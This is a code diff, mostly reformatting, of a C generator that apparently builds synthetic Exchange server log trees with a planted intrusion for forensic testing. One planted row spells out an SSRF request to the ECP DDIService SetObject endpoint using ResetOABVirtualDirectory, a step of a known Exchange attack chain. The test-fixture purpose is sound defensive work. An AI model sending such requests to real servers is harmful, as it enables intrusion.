-                     .stem = "/owa/auth/logon.aspx", .query = "url=https%3a%2f%2fmail.contoso.test%2fowa%2f&reason=0",
-                     .ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:86.0) Gecko/20100101 Firefox/86.0",
-                     .ip = "10.1.12.40", .status = 200};
+        ev benign = {
+            .kind = EV_REQ,
+            .dest = D_FE,
+            .method = "GET",
+            .host = "mail.contoso.test",
+            .stem = "/owa/auth/logon.aspx",
+            .query = "url=https%3a%2f%2fmail.contoso.test%2fowa%2f&reason=0",
+            .ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:86.0) Gecko/20100101 Firefox/86.0",
+            .ip = "10.1.12.40",
+            .status = 200};
         benign.t = iso("2021-03-03T06:40:00.000Z");
         emit(g, &benign, &r);
         emit(g, &e, &r);
@@ -1963,7 +2344,8 @@ static void robust(gen *g, const char *kind, const char *dir)
         m_close(&g->o, m);
         m = robust_hp_open(g, "2021030307", fields);
         ev d = chain_row("2021-03-03T07:12:20.359Z",
-                         SSRF_PFX "ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=" CANARY2 "&schema=ResetOABVirtualDirectory#",
+                         SSRF_PFX "ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=" CANARY2
+                                  "&schema=ResetOABVirtualDirectory#",
                          200);
         build_hp(g, &d, &r, &g->row);
         m_row(&g->o, m, &g->row, d.t);
@@ -1991,22 +2373,23 @@ static void robust(gen *g, const char *kind, const char *dir)
 
 static void usage(FILE *f)
 {
-    fputs("usage: gentree [options] DIR\n"
-          "       gentree [options] --zip FILE | --tar-gz FILE\n"
-          "       gentree --robust KIND DIR\n"
-          "\n"
-          "Writes a synthetic Exchange server evidence tree (logs of 2-8 March 2021).\n"
-          "\n"
-          "  --seed N         PRNG seed (default 1): the benign traffic; planted rows never change\n"
-          "  --benign         leave the planted intrusion out\n"
-          "  --layout L       default (C:\\Program Files\\...\\V15, C:\\inetpub) or alt\n"
-          "                   (E:\\Exchange\\V15, D:\\inetpub)\n"
-          "  --scale MIB      about MIB MiB of logs over 1-8 March, every hour (benchmarks)\n"
-          "  --zip FILE       write a zip instead of a folder\n"
-          "  --tar-gz FILE    write a tar.gz instead of a folder\n"
-          "  --robust KIND    one hostile-input fixture: longline, binary, badquote, badutf8,\n"
-          "                   truncated, wide, corruptzip, special\n",
-          f);
+    fputs(
+        "usage: gentree [options] DIR\n"
+        "       gentree [options] --zip FILE | --tar-gz FILE\n"
+        "       gentree --robust KIND DIR\n"
+        "\n"
+        "Writes a synthetic Exchange server evidence tree (logs of 2-8 March 2021).\n"
+        "\n"
+        "  --seed N         PRNG seed (default 1): the benign traffic; planted rows never change\n"
+        "  --benign         leave the planted intrusion out\n"
+        "  --layout L       default (C:\\Program Files\\...\\V15, C:\\inetpub) or alt\n"
+        "                   (E:\\Exchange\\V15, D:\\inetpub)\n"
+        "  --scale MIB      about MIB MiB of logs over 1-8 March, every hour (benchmarks)\n"
+        "  --zip FILE       write a zip instead of a folder\n"
+        "  --tar-gz FILE    write a tar.gz instead of a folder\n"
+        "  --robust KIND    one hostile-input fixture: longline, binary, badquote, badutf8,\n"
+        "                   truncated, wide, corruptzip, special\n",
+        f);
 }
 
 int main(int argc, char **argv)
